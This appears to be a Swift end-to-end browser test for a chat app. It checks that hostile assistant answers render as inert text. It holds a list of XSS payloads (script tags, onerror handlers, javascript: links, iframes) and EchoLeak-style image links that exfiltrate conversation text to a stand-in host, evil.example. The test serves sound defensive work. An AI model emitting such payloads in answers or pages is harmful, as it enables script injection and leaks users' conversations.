// Answers that attack the page in ways that worked on other chat systems (SECURITY.md names the
// advisories): the page shows them as text, and nothing runs or is fetched.

import ChatProtocol
import Postgres
import Testing

extension EndToEnd.InABrowser {
    @Suite(
        "Answers as data",
        .enabled(
            if: BrowserDriver.whatIsMissing == nil,
            "needs chromium and chromedriver: make setup installs them"
        )
    )
    struct HostileAnswerTests {
        /// Each tries to run `attacked`, or to fetch from another server.
        private static let attacks = [
            // Raw HTML, frames and SVG images.
            "<script>window.attacked = 1</script>",
            "<img src=x onerror=\"window.attacked = 2\">",
            "<iframe srcdoc=\"<script>parent.attacked = 3</script>\"></iframe>",
            "<iframe src=\"javascript:parent.attacked = 4\" sandbox=\"allow-scripts allow-same-origin\">",
            "<svg onload=\"window.attacked = 5\"><use href=\"data:image/svg+xml,x\"></svg>",
            "<video><source onerror=\"window.attacked = 6\"></video>",
            "<details open ontoggle=\"window.attacked = 7\">x</details>",
            "<form action=\"https://evil.example/\"><button formaction=\"javascript:attacked=8\">x",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<style>@import url(https://evil.example/style.css)</style>",
            "<base href=\"https://evil.example/\">",
            "</div></li></ol><script>window.attacked = 9</script>",
            // The same where Markdown ends or escapes something.
            "`<img src=x onerror=window.attacked=10>`",
            "```html\n<script>window.attacked = 11</script>\n```\n</code><script>attacked=11</script>",
            "```mermaid\ngraph TD\nA[<img src=x onerror=window.attacked=12>] --> B\n```",
            "| a | <img src=x onerror=window.attacked=13> |\n|---|---|\n| <svg/onload=attacked=13> | b |",
            "$$\\href{javascript:window.attacked=14}{x}$$",
            // Links with scripts.
            "[x](javascript:window.attacked=15)",
            "[x](JaVaScRiPt&#58;window.attacked=16)",
            "[x](\u{1}javascript:window.attacked=17)",
            "[x](data:text/html,<script>opener.attacked=18</script>)",
            "[x](vbscript:attacked=19) <javascript:window.attacked=19>",
            "[x]: javascript:window.attacked=20\n\n[x]",
            "[x](//evil.example/ \"onmouseover=attacked=21\")",
            // Images that exfiltrate messages (EchoLeak, CVE-2025-32711).
            "![x](https://evil.example/leak?what=was-said)",
            "![x](//evil.example/leak)",
            "[![x](https://evil.example/a.png)](https://evil.example/b)",
            "![x][y]\n\n[y]: https://evil.example/leak",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        ]

        @Test("nothing in an answer runs or is fetched, and links lead where they say")
        func attacks() throws {
            let server = try StoaServer()
            try server.addUser("ann")
            let peer = try server.connect(try server.signIn("ann"))
            let conversation = try peer.createConversation(title: "<b onclick=attacked=22>x")
            var mirror = try peer.watch(conversation)
            let database = try server.database()
            for attack in Self.attacks {
                // No model can be made to say this, so its answer is replaced.
                let answer = try peer.say(attack, in: conversation).answer.id
                try peer.follow(&mirror, until: answer)
                let rows = try database.query(
                    "UPDATE messages SET body = $1 WHERE id = $2 RETURNING 1",
                    [.text(attack), .uuid(answer.uuid)]
                )
                #expect(rows.count == 1)
            }
            let browser = try Browser(BrowserDriver())
            try browser.signIn("ann", on: server)
            try browser.open("\(server.origin)/#conversation=\(conversation)")
            try browser.wait("document.querySelectorAll('#messages > li').length >= 50")
            for selector in ["#messages > li:first-child", "#messages > li:last-child"] {
                try browser.script("document.querySelector(\(quoted(selector))).scrollIntoView()")
            }
            // A fetch, or a script after a failed fetch, would have started before this returns.
            try browser.script(
                """
                return fetch(location.href).then(() => new Promise((done) =>
                    requestAnimationFrame(() => requestAnimationFrame(done))))
                """
            )
            let shown = try browser.texts()
            #expect(shown.contains(Self.attacks[Self.attacks.count - 1]))
            #expect(try browser.script("return window.attacked ?? null") == .null)
            let forbidden = """
                return [...document.querySelectorAll('#messages *')].filter((node) =>
                    /^(script|iframe|object|embed|img|picture|video|audio|source|style|link|meta|base|form)$/i
                        .test(node.localName)
                    || [...node.attributes].some((one) => /^on/i.test(one.name))
                ).map((node) => node.outerHTML)
                """
            #expect(try browser.script(forbidden).elements.isEmpty)
            let links = try browser.script(
                "return [...document.querySelectorAll('#messages a')].map((a) => a.href + ' ' + a.rel)"
            ).elements.compactMap(\.text)
            for link in links {
                #expect(link.hasPrefix("https:") || link.hasPrefix("http:"), "\(link)")
                #expect(link.contains("noopener") && link.contains("noreferrer"), "\(link)")
            }
            let fetched = try browser.script(
                """
                return performance.getEntriesByType("resource").map((entry) => entry.name)
                    .filter((name) => !name.startsWith(location.origin))
                """
            ).elements
            #expect(fetched.isEmpty, "\(fetched)")
        }
    }
}
